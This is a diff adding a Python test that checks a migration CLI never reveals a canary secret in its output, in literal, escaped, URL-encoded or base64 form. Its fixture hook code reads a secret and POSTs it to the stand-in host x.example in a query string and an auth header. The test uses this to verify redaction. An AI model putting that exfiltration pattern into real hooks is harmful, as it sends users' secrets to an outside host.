@@ -95,3 +95,30 @@ def test_a_hook_cannot_open_its_own_inspector_session(node: Node) -> None:
     record = run_proof(hook, hook, builtin_samples(POST), (), KeywordValues())
     sent = [r for run in record.runs for r in run.hook.requests]
     assert sent and all(r["args"][1] == {"opened": "refused no-port"} for r in sent), sent
+
+
+def test_a_literal_secret_never_shows_in_the_proof_in_any_form(node: Node, tmp_path: Path) -> None:
+    import base64
+    import urllib.parse
+
+    canary = "canary/7c1e+secret=value"
+    code = """module.exports = function (client, scope, audience, context, cb) {
+  const key = context.webtask.secrets.KEY;
+  require('axios').post('https://x.example/?k=' + encodeURIComponent(key), {}, { headers: { authorization: 'Basic ' + Buffer.from('u:' + key).toString('base64') } })
+    .then(function () { cb(null, { scope: scope, 'https://x.example/k': key === 'never' ? 1 : key }); });
+};"""
+    config = hook_config(tmp_path, "leaky", "credentials-exchange", code, secrets={"KEY": canary})
+    actions = config / "actions" / "leaky"
+    actions.mkdir(parents=True)
+    # A wrong action of the same name: the DIFFERS output shows both results.
+    (config / "actions" / "leaky.json").write_text(json.dumps({
+        "name": "leaky", "code": "./actions/leaky/code.js", "runtime": "node22", "dependencies": [],
+        "secrets": [{"name": "KEY", "value": "##KEY##"}], "supported_triggers": [{"id": "credentials-exchange", "version": "v2"}],
+        "deployed": True}))
+    (actions / "code.js").write_text("exports.onExecuteCredentialsExchange = async (event, api) => { api.accessToken.setCustomClaim('https://x.example/k', event.secrets.KEY); };")
+    result = CliRunner().invoke(cli, ["migrate", "-c", str(config), "--check"], env={"KEY": canary})
+    assert result.exit_code == 1, result.output
+    assert "DIFFERS leaky" in result.stdout
+    forms = [canary, json.dumps(canary)[1:-1], urllib.parse.quote(canary, safe=""), base64.b64encode(canary.encode()).decode()[4:-4]]
+    for form in forms:
+        assert form not in result.output, form
